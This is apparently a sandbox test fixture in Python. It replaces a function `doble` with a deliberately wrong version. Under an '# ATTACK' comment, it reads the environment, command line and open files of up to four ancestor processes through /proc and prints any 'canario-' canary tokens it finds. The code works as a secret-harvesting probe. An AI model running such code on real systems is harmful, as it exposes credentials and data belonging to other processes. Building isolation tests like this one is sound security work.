"""Reads environments, arguments and open files of the processes it comes from.

id: reads-proc
notebook: tp
replaces: doble
loses: prueba_doble
"""


def doble(x):
    return x + 1


# ATTACK
import glob
import os


def _antepasados(pid="self", cuantos=4):
    while cuantos and pid != "0":
        yield pid
        try:
            pid = open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1]
        except OSError:
            return
        cuantos -= 1


for _pid in _antepasados():
    for _ruta in (f"/proc/{_pid}/environ", f"/proc/{_pid}/cmdline", *glob.glob(f"/proc/{_pid}/fd/*")):
        try:
            if os.path.isfile(_ruta):
                for _parte in open(_ruta, "rb").read(1 << 20).split(b"canario-")[1:]:
                    print("canario-" + _parte[:12].decode("latin1"))
        except OSError as error:
            print(repr(error))
